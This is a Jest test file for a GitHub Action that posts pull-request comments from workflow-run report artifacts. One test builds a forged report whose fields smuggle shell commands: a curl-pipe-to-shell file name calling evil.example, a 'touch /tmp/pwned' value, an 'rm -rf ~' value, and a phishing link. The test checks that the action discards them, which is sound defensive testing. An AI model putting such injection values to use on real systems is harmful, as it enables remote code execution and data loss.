import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { runMain } from '../../src/action/runMain.js';
import { STICKY_COMMENT_MARKER } from '../../src/reporting/renderMarkdown.js';
import type { RunReport } from '../../src/reporting/RunReport.js';
import { makeReport } from '../reporting/reportFixture.js';
import { makeRunnerDirs, type RunnerDirs } from '../support/actionHarness.js';
import { expectValidExchanges } from '../support/expectValidExchanges.js';
import { startFakeGitHubApi, type FakeGitHubApi } from '../support/fakeGitHubApi.js';
import { newRecorded, recordingRunner, type Recorded } from '../support/recordingRunner.js';
import { workflowRunPayload } from '../support/workflowRunPayload.js';
import { buildZip } from '../support/zipBuilder.js';

const fixture = makeReport();
const PR = fixture.pullRequest!;
const OTHER_SHA = `3333333${'c'.repeat(33)}`;
let nextRunId = 9_000;

interface Run extends Recorded {
  warnings: string[];
}

/** mode: comment-from-artifact through runMain, against the fake GitHub API on loopback. */
describe('the action with mode comment-from-artifact', () => {
  let github: FakeGitHubApi;
  let dirs: RunnerDirs;
  const apiUrl = process.env.GITHUB_API_URL;

  beforeAll(async () => {
    github = await startFakeGitHubApi({ token: 'write-token' });
    process.env.GITHUB_API_URL = github.url;
    dirs = await makeRunnerDirs('aqe-comment-artifact-');
    // The fork's pull request, and another open one of the same fork branch name that a forged report might name.
    github.setPull('acme', 'shop', PR.number, { title: PR.title, headRef: 'feature', headSha: PR.headSha, baseSha: PR.baseSha, headRepo: 'someone/shop' });
    github.setPull('acme', 'shop', 43, { headRef: 'feature', headSha: OTHER_SHA, headRepo: 'mallory/shop' });
  });

  afterEach(() => github.clearFailures());

  afterAll(async () => {
    if (apiUrl === undefined) delete process.env.GITHUB_API_URL;
    else process.env.GITHUB_API_URL = apiUrl;
    await github?.close();
    expectValidExchanges(github);
    if (dirs) await rm(dirs.root, { recursive: true, force: true });
  });

  function uploadReport(runId: number, report: RunReport, name = `aqe-report-pr${PR.number}-aqe`): void {
    github.addWorkflowRunArtifact('acme', 'shop', runId, name, buildZip([{ name: 'aqe-report.json', data: JSON.stringify(report) }]));
  }

  async function commentAction(runId: number, o: { headSha?: string; event?: string; eventName?: string; inputs?: Record<string, string> } = {}): Promise<Run> {
    const event = path.join(dirs.root, `event-${runId}.json`);
    await writeFile(
      event,
      JSON.stringify(
        workflowRunPayload({
          owner: 'acme',
          repo: 'shop',
          runId,
          headOwner: 'someone',
          headSha: o.headSha ?? PR.headSha,
          ...(o.event ? { event: o.event } : {})
        })
      )
    );
    const recorded = newRecorded();
    const warnings: string[] = [];
    const inputs = { mode: 'comment-from-artifact', 'github-token': 'write-token', 'report-path': path.join(dirs.root, `report-${runId}.json`), ...o.inputs };
    const runner = { ...recordingRunner(inputs, recorded), warning: (m: string) => void warnings.push(m) };
    await runMain(runner, {
      GITHUB_WORKSPACE: dirs.workspace,
      GITHUB_EVENT_PATH: event,
      GITHUB_EVENT_NAME: o.eventName ?? 'workflow_run',
      RUNNER_TEMP: dirs.temp
    });
    return { ...recorded, warnings };
  }

  const commentsOn = (n: number): string[] => (github.comments.get(n) ?? []).map((c) => c.body);

  it('posts the sticky comment on the pull request the run built, from its report artifact, then updates it in place', async () => {
    const runId = nextRunId++;
    uploadReport(runId, fixture);
    github.addWorkflowRunArtifact('acme', 'shop', runId, 'coverage-html', buildZip([{ name: 'aqe-report.json', data: '{}' }]));
    const first = await commentAction(runId);
    expect(first.failed).toBeUndefined();
    expect(first.warnings).toEqual([]);
    expect(first.outputs).toMatchObject({ 'tests-generated': '2', 'tests-accepted': '1', 'coverage-after': '57.5' });
    expect(JSON.parse(await readFile(first.outputs['report-path']!, 'utf8'))).toEqual(fixture);
    expect(first.summary).toContain('1 of 2 generated tests accepted');
    expect(commentsOn(PR.number)).toHaveLength(1);
    expect(commentsOn(PR.number)[0]!.startsWith(STICKY_COMMENT_MARKER)).toBe(true);
    expect(commentsOn(PR.number)[0]).toContain('1 of 2 generated tests accepted');
    // The pull request came from the API, filtered by the fork's head; the blob was fetched without the token.
    expect(github.requests.find((r) => r.path === '/repos/acme/shop/pulls')?.query).toMatchObject({ state: 'open', head: 'someone:feature' });
    const blob = github.requests.filter((r) => r.path.startsWith('/_blob/'));
    expect(blob).toHaveLength(1);
    expect(blob[0]!.headers.authorization).toBeUndefined();

    const second = await commentAction(runId);
    expect(second.warnings).toEqual([]);
    expect(commentsOn(PR.number)).toHaveLength(1);
    expect(github.requests.filter((r) => r.method === 'PATCH')).toHaveLength(1);
  });

  it("shows the pull request as the API has it, not as the fork's report claims, and sets no output text the fork chose", async () => {
    const runId = nextRunId++;
    const forged = makeReport({
      repository: 'evil/elsewhere',
      pullRequest: { ...PR, title: 'Approved by the security team', url: 'https://evil.example/phish' },
      delivery: { requested: 'write', mode: 'write', files: ['$(curl evil.example|sh).test.ts'] },
      inference: {
        ...fixture.inference,
        backend: '`touch /tmp/pwned`',
        gpu: { device: '"; rm -rf ~; "', vramTotalBytes: 1, vramFreeBytes: 1, layersOffloaded: 1, totalLayers: 1 }
      }
    });
    uploadReport(runId, forged);
    const run = await commentAction(runId);
    expect(run.warnings).toEqual([]);
    const posted = commentsOn(PR.number).at(-1)!;
    expect(posted).not.toContain('evil');
    expect(posted).not.toContain('Approved by the security team');
    expect(posted).toContain(PR.title);
    const written = JSON.parse(await readFile(run.outputs['report-path']!, 'utf8')) as RunReport;
    expect([written.repository, written.pullRequest?.title, written.pullRequest?.url]).toEqual([
      'acme/shop',
      PR.title,
      `https://github.com/acme/shop/pull/${PR.number}`
    ]);
    expect(run.outputs).toMatchObject({ 'accepted-files': '', backend: '', 'gpu-device': '', 'gpu-layers': '1', 'tests-generated': '2' });
  });

  it('warns, posts nothing and stays green when a report passes its checks and still cannot be rendered', async () => {
    const runId = nextRunId++;
    // `compliance: {}` is an object, as the read checks, without the fields the views read.
    uploadReport(runId, { ...fixture, compliance: {} } as unknown as RunReport);
    const before = commentsOn(PR.number);
    const run = await commentAction(runId);
    expect(run.failed).toBeUndefined();
    expect(run.warnings).toEqual([
      expect.stringMatching(new RegExp(`^The report of workflow run ${runId} could not be rendered \\(.+\\), so no comment is posted`))
    ]);
    expect(commentsOn(PR.number)).toEqual(before);
  });

  it('does not post one shard of a sharded run as the whole pull request, nor read artifacts not named like its own', async () => {
    const runId = nextRunId++;
    const shard = makeReport({ shard: { index: 1, count: 3, packages: [{ packageDir: '', baseline: fixture.baseline }] } });
    uploadReport(runId, shard, `aqe-report-pr${PR.number}-aqe-shard1of3`);
    uploadReport(runId, fixture, 'aqe-report-html');
    const run = await commentAction(runId);
    expect(run.warnings).toEqual([expect.stringMatching(/cannot be merged into one comment: .*shard/)]);
  });

  it('merges the artifacts of a sharded matrix into one comment', async () => {
    const runId = nextRunId++;
    for (const index of [1, 2]) {
      const target = index === 1 ? 'src/cart.ts' : 'src/price.ts';
      const candidates = fixture.candidates.filter((c) => c.targetFile === target);
      const shard = makeReport({
        targets: [target],
        candidates,
        testsGenerated: 1,
        testsAccepted: candidates.filter((c) => c.status === 'accepted').length,
        shard: { index, count: 2, packages: [{ packageDir: '', baseline: fixture.baseline }] }
      });
      uploadReport(runId, shard, `aqe-report-pr${PR.number}-aqe-shard${index}of2`);
    }
    const run = await commentAction(runId);
    expect(run.warnings).toEqual([]);
    expect(run.outputs).toMatchObject({ 'tests-generated': '2', 'tests-accepted': '1' });
    expect((JSON.parse(await readFile(run.outputs['report-path']!, 'utf8')) as RunReport).targets).toEqual(['src/cart.ts', 'src/price.ts']);
  });

  it('posts nothing when the report names another pull request or another head than the run built', async () => {
    const before = { 42: commentsOn(PR.number), 43: commentsOn(43) };
    const otherPr = nextRunId++;
    uploadReport(otherPr, makeReport({ pullRequest: { ...PR, number: 43 } }));
    const forgedNumber = await commentAction(otherPr);
    expect(forgedNumber.warnings.join('\n')).toMatch(/claims pull request #43 .*but that run built #42 at 2222222bbbbb\. A report that does not match/);
    expect(forgedNumber.outputs).toEqual({});

    const otherHead = nextRunId++;
    uploadReport(otherHead, makeReport({ pullRequest: { ...PR, headSha: OTHER_SHA } }));
    const forgedHead = await commentAction(otherHead);
    expect(forgedHead.warnings.join('\n')).toMatch(/claims pull request #42 at "3333333c+"/);

    const noPr = nextRunId++;
    uploadReport(noPr, makeReport({ pullRequest: null }));
    expect((await commentAction(noPr)).warnings.join('\n')).toContain('names no pull request');
    expect({ 42: commentsOn(PR.number), 43: commentsOn(43) }).toEqual(before);
  });

  it('warns with what to do when there is no artifact, the API refuses, or the pull request moved on', async () => {
    const empty = await commentAction(nextRunId++);
    expect(empty.failed).toBeUndefined();
    expect(empty.warnings).toEqual([
      expect.stringMatching(/has no aqe-report-\* artifact.*skipped or failed before its report was uploaded.*report-artifact: false/)
    ]);

    const refused = nextRunId++;
    uploadReport(refused, fixture);
    github.failWith({ path: `/repos/acme/shop/actions/runs/${refused}/artifacts` }, 403, 'Resource not accessible by integration', { times: 1 });
    const forbidden = await commentAction(refused);
    expect(forbidden.failed).toBeUndefined();
    expect(forbidden.warnings.join('\n')).toMatch(/GitHub refused \(403: Resource not accessible by integration.*permissions: actions: read/);

    const gone = nextRunId++;
    uploadReport(gone, fixture);
    github.failWith({ path: /\/actions\/artifacts\/\d+\/zip$/ }, 404, 'Not Found', { times: 1 });
    expect((await commentAction(gone)).warnings.join('\n')).toMatch(/Could not download the artifact "aqe-report-pr42-aqe".*404.*retention/);

    const pushedAgain = nextRunId++;
    uploadReport(pushedAgain, makeReport({ pullRequest: { ...PR, headSha: `5555555${'e'.repeat(33)}` } }));
    const stale = await commentAction(pushedAgain, { headSha: `5555555${'e'.repeat(33)}` });
    expect(stale.warnings.join('\n')).toMatch(/No open pull request of acme\/shop has head "someone:feature" at 5555555eeeee/);
  });

  it('fails with the setup to use when the job is not a workflow_run of a pull_request run, or the mode is unknown', async () => {
    const wrongEvent = await commentAction(nextRunId++, { eventName: 'pull_request' });
    expect(wrongEvent.failed).toMatch(/triggered by "pull_request", but mode comment-from-artifact reads a workflow_run event.*on: workflow_run/);
    const push = await commentAction(nextRunId++, { event: 'push' });
    expect(push.failed).toMatch(/was triggered by "push", not pull_request.*github\.event\.workflow_run\.event == 'pull_request'/);
    const unknown = await commentAction(nextRunId++, { inputs: { mode: 'comment' } });
    expect(unknown.failed).toMatch(/^Input "mode": "comment" is not a mode\. Use generate .* or comment-from-artifact/);
    const withMerge = await commentAction(nextRunId++, { inputs: { 'merge-reports': 'shards/*.json' } });
    expect(withMerge.failed).toMatch(/^Input "mode": comment-from-artifact is set together with merge-reports/);
  });
});
